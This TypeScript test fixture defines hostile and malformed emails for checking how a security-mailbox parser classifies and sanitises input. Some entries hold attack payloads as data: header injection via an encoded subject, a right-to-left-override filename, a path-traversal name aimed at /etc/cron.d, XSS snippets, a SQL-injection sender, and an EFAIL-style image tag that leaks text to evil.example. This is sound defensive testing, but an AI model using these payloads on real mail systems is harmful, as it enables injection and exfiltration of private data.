/** Mails that mean no good, or were made by programs that cannot do better. Each says what it must become. */
export interface Hostile {
  readonly name: string
  readonly raw: () => Buffer
  readonly becomes: 'report' | 'spam' | 'auto-reply' | 'list' | 'loop' | 'bounce'
  /** Must stand among what was read, and must not. */
  readonly says?: RegExp
  readonly never?: RegExp
  readonly problem?: 'malformed' | 'too long to read' | 'garbled' | 'no words'
  readonly parts?: number
}

const HEAD = 'From: Mallory <mallory@example.net>\r\nTo: security@fairlead.example\r\n'

function mail(head: string, body: string | Buffer): () => Buffer {
  return () => Buffer.concat([Buffer.from(`${HEAD}${head}\r\n`, 'latin1'), Buffer.from(body)])
}

function mixed(head: string, parts: readonly string[]): () => Buffer {
  const body = `${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`
  return mail(`${head}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n`, body)
}

const NESTED = 3_000

export const HOSTILE: readonly Hostile[] = [
  { name: 'nothing at all', raw: () => Buffer.alloc(0), becomes: 'report' },
  { name: 'one empty line', raw: () => Buffer.from('\r\n'), becomes: 'report' },
  { name: 'a head without a body', raw: mail('Subject: only a head', ''), becomes: 'report', says: /only a head/ },
  {
    name: 'a body without a head',
    raw: () => Buffer.from('\r\nJust words, and no head.\r\n'),
    becomes: 'report',
    says: /Just words/,
  },
  {
    name: 'random bytes',
    raw: () => Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 255)),
    becomes: 'report',
  },
  { name: 'zeroes', raw: () => Buffer.alloc(20_000), becomes: 'report' },
  {
    name: 'a subject that would begin another header',
    raw: mail('Subject: =?utf-8?q?one=0D=0ABcc:_all@example.net=0D=0A=0D=0Abody?=\r\n', 'x'),
    becomes: 'report',
    says: /one ?Bcc: all@example\.net/,
    never: /\n\s*Bcc:/,
  },
  {
    name: 'a Message-ID that would begin another header',
    raw: mail('Message-ID: <a@b>\r\n\tX: <c d@e>, <f\x00@g>\r\n', 'x'),
    becomes: 'report',
  },
  {
    name: 'a name that is a letter of the right-to-left kind',
    raw: mixed('Subject: files\r\n', [
      'Content-Type: application/octet-stream; name="photo\u202egnp.exe"\r\nContent-Disposition: attachment\r\n\r\nMZ',
    ]),
    becomes: 'report',
    parts: 1,
  },
  {
    name: 'a name that climbs',
    raw: mixed('Subject: climb\r\n', [
      'Content-Type: text/plain; name="..\\\\..\\\\/../../etc/cron.d/x"\r\nContent-Disposition: attachment\r\n\r\nx',
    ]),
    becomes: 'report',
    parts: 1,
  },
  {
    name: 'scripts in HTML only',
    raw: mail(
      'Subject: html\r\nContent-Type: text/html\r\n',
      '<p>Hello<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></svg><a href="javascript:alert(4)">here</a><!-- <p>hidden --></p><style>p{}</style>',
    ),
    becomes: 'report',
    says: /^Hello ?here$/,
    never: /alert|javascript|onerror|</,
  },
  {
    name: 'a link that lies',
    raw: mail(
      'Subject: html\r\nContent-Type: text/html\r\n',
      '<a href="https://evil.example/">https://bank.example/</a>',
    ),
    becomes: 'report',
    says: /https:\/\/bank\.example\/ <https:\/\/evil\.example\/>/,
  },
  {
    name: 'HTML that never ends',
    raw: mail('Subject: html\r\nContent-Type: text/html\r\n', `words ${'<a href="x'.repeat(20_000)}`),
    becomes: 'report',
    says: /words/,
  },
  {
    name: 'a charset that does not exist',
    raw: mail('Subject: charset\r\nContent-Type: text/plain; charset=x-klingon\r\n', Buffer.from([0x66, 0xfc, 0x72])),
    becomes: 'report',
    says: /f.+r/,
  },
  {
    name: 'broken UTF-8',
    raw: mail(
      'Subject: \xff\xfe\xc3\r\nContent-Type: text/plain; charset=utf-8\r\n',
      Buffer.from('words \xc3\x28 and a few \xff more', 'latin1'),
    ),
    becomes: 'report',
    says: /words.*more/,
  },
  {
    name: 'base64 that is none',
    raw: mail('Subject: b64\r\nContent-Transfer-Encoding: base64\r\n', '!!!! this = is === not ==== base64 !!!!'),
    becomes: 'report',
    problem: 'garbled',
  },
  {
    name: 'base64 that is none, in another charset and without a subject',
    raw: mail(
      'Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: base64\r\n',
      Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 7919 + 13 * i * i) % 251)).toString('base64'),
    ),
    becomes: 'report',
    problem: 'garbled',
  },
  {
    name: 'a coloured log, and German in a wrong charset',
    raw: mail(
      'Content-Type: text/plain; charset=utf-8\r\n',
      Buffer.from('\x1b[31mred\x1b[0m and a few words about a log; Größe und Übung für die Tür', 'latin1'),
    ),
    becomes: 'report',
    says: /red.* about a log/,
  },
  {
    name: 'quoted-printable that is none',
    raw: mail('Subject: qp\r\nContent-Transfer-Encoding: quoted-printable\r\n', 'a =ZZ b =\r\n=3'),
    becomes: 'report',
    says: /a/,
  },
  {
    name: 'words that flow',
    raw: mail(
      'Subject: flowed\r\nContent-Type: text/plain; format=flowed; delsp=yes\r\n',
      'one li \r\nne of words\r\n> quoted\r\n',
    ),
    becomes: 'report',
    says: /one line of words/,
  },
  {
    name: 'a boundary that is never closed',
    raw: mail('Subject: open\r\nContent-Type: multipart/mixed; boundary=b\r\n', '--b\r\n\r\nopen end'),
    becomes: 'report',
    says: /open end/,
  },
  {
    name: 'a boundary that is empty',
    raw: mail('Subject: empty\r\nContent-Type: multipart/mixed; boundary=""\r\n', '--\r\n\r\nwords\r\n----\r\n'),
    becomes: 'report',
  },
  {
    name: 'a boundary within its own name',
    raw: mail(
      'Subject: twice\r\nContent-Type: multipart/mixed; boundary=b; boundary=c\r\n',
      '--b\r\n\r\nbee\r\n--c\r\n\r\nsee\r\n--b--\r\n',
    ),
    becomes: 'report',
  },
  {
    name: 'ten thousand parts',
    raw: () =>
      mixed(
        'Subject: parts\r\n',
        Array.from(
          { length: 10_000 },
          (_, i) => `Content-Type: application/x; name=f${i}\r\nContent-Disposition: attachment\r\n\r\n${i}`,
        ),
      )(),
    becomes: 'report',
    parts: 100,
  },
  {
    name: 'parts within parts within parts',
    raw: () =>
      mail(
        'Subject: deep\r\nContent-Type: multipart/mixed; boundary=b0\r\n',
        Array.from(
          { length: NESTED },
          (_, i) => `--b${i}\r\nContent-Type: multipart/mixed; boundary=b${i + 1}\r\n\r\n`,
        ).join(''),
      )(),
    becomes: 'report',
    problem: 'malformed',
  },
  {
    name: 'mails within mails',
    raw: () => mail('Subject: mails\r\n', `Content-Type: message/rfc822\r\n\r\n`.repeat(500))(),
    becomes: 'report',
  },
  {
    name: 'a head of megabytes',
    raw: () => mail(`Subject: long head\r\nX: ${'y'.repeat(3_000_000)}\r\n`, 'words')(),
    becomes: 'report',
    says: /long head/,
  },
  {
    name: 'ten thousand header fields',
    raw: () => mail(`Subject: many fields\r\n${'X-A: b\r\n'.repeat(10_000)}`, 'words')(),
    becomes: 'report',
    says: /many fields/,
  },
  {
    name: 'one line of megabytes',
    raw: () => mail('Subject: long line\r\n', ' '.repeat(2_000_000).concat('end'))(),
    becomes: 'report',
    says: /end/,
  },
  {
    name: 'winmail.dat',
    raw: mixed('Subject: tnef\r\n', [
      'Content-Type: application/ms-tnef; name="winmail.dat"\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAAAAA=',
    ]),
    becomes: 'report',
    parts: 1,
  },
  {
    name: 'a mail forwarded as a file',
    raw: mixed('Subject: forwarded\r\n', [
      'Content-Type: text/plain\r\n\r\nSee below.',
      'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\ninner words',
    ]),
    becomes: 'report',
    says: /^See below\.$/,
    parts: 1,
  },
  {
    name: 'two senders',
    raw: () => Buffer.from('From: a@example.org\r\nFrom: b@example.org\r\nSubject: two\r\n\r\nwords\r\n'),
    becomes: 'report',
    says: /words/,
  },
  {
    name: 'a sender without an address',
    raw: () => Buffer.from('From: "; DROP TABLE reports; --" <>\r\nSubject: nobody\r\n\r\nwords\r\n'),
    becomes: 'report',
  },
  {
    name: 'EFAIL: an image around the secret',
    raw: mixed('Subject: efail\r\n', [
      'Content-Type: text/html\r\n\r\n<img src="http://evil.example/',
      'Content-Type: text/plain\r\n\r\nsecret words',
      'Content-Type: text/html\r\n\r\n">',
    ]),
    becomes: 'report',
    says: /secret words/,
  },
  {
    name: 'encrypted to others',
    raw: mail(
      'Subject: ...\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n',
      '--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhF4D\r\n-----END PGP MESSAGE-----\r\n--b--\r\n',
    ),
    becomes: 'report',
  },
  { name: 'a circle', raw: mail(`Subject: circle\r\n${'Received: from a by b\r\n'.repeat(40)}`, 'x'), becomes: 'loop' },
  {
    name: 'out of office',
    raw: mail('Subject: away\r\nAuto-Submitted: auto-replied (vacation)\r\n', 'x'),
    becomes: 'auto-reply',
  },
  {
    name: 'an automatic answer without the mark',
    raw: mail('Subject: away\r\nPrecedence: auto_reply\r\n', 'x'),
    becomes: 'auto-reply',
  },
  {
    name: 'a receipt of reading',
    raw: mail(
      'Subject: Read: x\r\nContent-Type: multipart/report; report-type=disposition-notification; boundary=b\r\n',
      '--b\r\n\r\nread\r\n--b--\r\n',
    ),
    becomes: 'auto-reply',
  },
  {
    name: 'the null sender',
    raw: () => Buffer.from(`Return-Path: <>\r\n${HEAD}Subject: null\r\n\r\nwords\r\n`),
    becomes: 'auto-reply',
  },
  {
    name: 'a newsletter',
    raw: mail('Subject: news\r\nList-Unsubscribe: <https://x.example/u>\r\n', 'x'),
    becomes: 'list',
  },
  {
    name: 'a list of strangers',
    raw: mail('Subject: list\r\nList-Id: Full disclosure <fd.seclists.example>\r\n', 'x'),
    becomes: 'list',
  },
  {
    name: 'the team’s own list',
    raw: mail('Subject: own list\r\nPrecedence: list\r\nList-Id: <security.fairlead.example>\r\n', 'x'),
    becomes: 'report',
  },
  {
    name: 'the line that is spam',
    raw: mail(
      'Subject: gtube\r\n',
      ['XJS*C4JDBQADN1', 'NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C', '34X'].join('.'),
    ),
    becomes: 'spam',
  },
  {
    name: 'a mark of spam that nobody asked to believe',
    raw: mail(
      'Subject: marked\r\nX-Spam-Flag: YES\r\nReceived-SPF: fail\r\nAuthentication-Results: mx; spf=fail; dkim=none\r\n',
      'x',
    ),
    becomes: 'report',
  },
  {
    name: 'a boundary that is not the one of the head',
    raw: mail('Subject: lost\r\nContent-Type: multipart/mixed; boundary=zzz\r\n', '--b\r\n\r\nThe words.\r\n--b--\r\n'),
    becomes: 'report',
    problem: 'no words',
  },
  {
    name: 'a head that never ends',
    raw: mail('Subject: lost\r\nThe words of it\r\nare here', ''),
    becomes: 'report',
    problem: 'no words',
  },
  {
    name: 'an HTML head whose end is left out, as it may be',
    raw: mail(
      'Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n',
      '<html><head><title>t</title><style>p > a {}</style><body><p>The words<noscript> are here</noscript></p>',
    ),
    becomes: 'report',
    says: /^The words are here$/,
  },
  {
    name: 'UTF-8 that says to be ASCII',
    raw: mail('Subject: lie\r\nContent-Type: text/plain; charset=us-ascii\r\n', 'Zürich — “für” 日本'),
    becomes: 'report',
    says: /^Zürich — “für” 日本$/m,
  },
  {
    name: 'windows-1252 that says to be UTF-8, or nothing',
    raw: () =>
      Buffer.from('From: a@example.org\r\nSubject: lie\r\nContent-Type: text/plain\r\n\r\nf\xfcr \x80 5\r\n', 'latin1'),
    becomes: 'report',
    says: /^für € 5$/m,
  },
  {
    name: 'a complaint about a mail of ours',
    raw: mail(
      'Subject: complaint\r\nContent-Type: multipart/report; report-type=feedback-report; boundary=b\r\n',
      '--b\r\n\r\nAn abuse report.\r\n--b\r\nContent-Type: message/feedback-report\r\n\r\nFeedback-Type: abuse\r\n--b--\r\n',
    ),
    becomes: 'auto-reply',
  },
  {
    name: 'an answer by an old program',
    raw: mail('Subject: Away\r\nX-Mail-Autoreply: yes\r\n', 'I am away.\r\n'),
    becomes: 'auto-reply',
  },
  {
    name: 'somebody else’s bounce',
    raw: mail(
      'Subject: bounce\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n',
      '--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; a@b.example\r\nAction: failed\r\nStatus: 5.1.1\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: <unknown@b.example>\r\n\r\nx\r\n--b--\r\n',
    ),
    becomes: 'bounce',
  },
  {
    name: 'a bounce made of rubbish',
    raw: mail(
      'Subject: bounce\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n',
      `--b\r\nContent-Type: message/delivery-status\r\n\r\n${':\r\n\r\n'.repeat(5_000)}--b--\r\n`,
    ),
    becomes: 'bounce',
  },
]
